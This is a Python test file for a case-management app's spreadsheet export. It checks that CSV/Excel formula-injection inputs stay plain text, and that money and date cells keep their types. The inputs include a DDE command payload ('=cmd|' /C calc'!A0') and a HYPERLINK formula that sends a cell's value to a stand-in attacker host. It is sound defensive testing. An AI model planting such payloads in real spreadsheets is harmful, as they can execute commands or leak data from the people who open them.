"""Safe spreadsheets (core.xlsx, RELIABILITY.md T19) and the case list export (reports.exports)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx import workbook_bytes, write_cell
from reports.exports import case_list_xlsx
from reports.imports import case_import
from tests.reports.fixtures.registers import row, to_csv

CORPUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "＝1",
    "=1+1",
    "+86 138 0013 8000",
    "-",
]


def _read_back(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_formula_corpus_stays_text_when_read_back():
    content = workbook_bytes(title="t", headers=["值"], rows=[[text] for text in CORPUS])

    sheet = _read_back(content)

    cells = [sheet.cell(row=n, column=1) for n in range(2, len(CORPUS) + 2)]
    assert [c.data_type for c in cells] == ["s"] * len(CORPUS)
    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in CORPUS]
    triggers = [c for c, text in zip(cells, CORPUS, strict=True) if text[0] in "=+-@\t\r"]
    assert all(c.quotePrefix for c in triggers)


def test_openpyxl_alone_would_write_a_formula():
    """Negative control: the reason core.xlsx exists."""
    sheet = Workbook().active
    sheet["A1"] = "=1+1"
    assert sheet["A1"].data_type == "f"
    write_cell(sheet, 1, 1, "=1+1")
    assert sheet["A1"].data_type == "s"


def test_money_stays_numeric_and_dates_stay_dates():
    aware = dt.datetime(2024, 1, 31, 16, 30, tzinfo=dt.UTC)
    content = workbook_bytes(
        title="t",
        headers=["金额", "负数", "日期", "时间", "人数"],
        rows=[[Decimal("12345.60"), Decimal("-1.50"), dt.date(2024, 3, 5), aware, 7]],
    )

    sheet = _read_back(content)

    money, negative, day, moment, count = (sheet.cell(row=2, column=n) for n in range(1, 6))
    assert money.data_type == "n" and Decimal(str(money.value)) == Decimal("12345.6")
    assert money.number_format == "#,##0.00"
    assert negative.data_type == "n" and negative.value == -1.5
    assert day.is_date and day.value == dt.datetime(2024, 3, 5)
    assert moment.is_date and moment.value == dt.datetime(2024, 2, 1, 0, 30)  # Beijing time
    assert count.value == 7


def test_floats_and_xml_illegal_characters():
    sheet = Workbook().active
    with pytest.raises(TypeError):
        write_cell(sheet, 1, 1, 0.1)
    write_cell(sheet, 1, 1, "a\x00b\x07c")
    assert sheet["A1"].value == "abc"


def test_case_list_export(world, director, django_assert_max_num_queries):
    hostile = '=HYPERLINK("http://evil","x")'
    rows = [
        row(申请人=hostile, 申请人身份证号="", 被申请人="@SUM(1)公司", 统一社会信用代码=""),
        row(申请人="李四", 申请人身份证号="", 处理结果="不予受理", 受理日期="", 协议金额="", 挽回金额=""),
    ]
    # CSV: the hostile text is text (an XLSX written by openpyxl would hold a formula, refused)
    report = case_import(actor=director, organization=world.district, content=to_csv(rows), file_name="a.csv")
    assert report.created == 2
    from cases.models import Case

    with django_assert_max_num_queries(3):
        content = case_list_xlsx(cases=Case.objects.order_by("received_at", "pk"))

    sheet = _read_back(content)
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["案号", "登记号", "调解组织", "状态"]
    first = list(sheet[2])
    assert first[0].value == "（2018）京兴工调字第0001号"
    assert first[3].value == "已结案"
    assert first[4].value == "劳动报酬"
    assert first[5].value == hostile and first[5].data_type == "s"
    assert first[6].value == "@SUM(1)公司" and first[6].data_type == "s"
    assert first[7].value == dt.datetime(2018, 3, 5) and first[9].value == dt.datetime(2018, 3, 20)
    assert [c.value for c in first[10:13]] == [12000.5, 10000, 10000]
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in first[10:13])
    second = [c.value for c in sheet[3]]
    assert second[0] is None and second[8] is None  # rejected: no case number, never accepted
    assert second[11:13] == [0, 0]
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
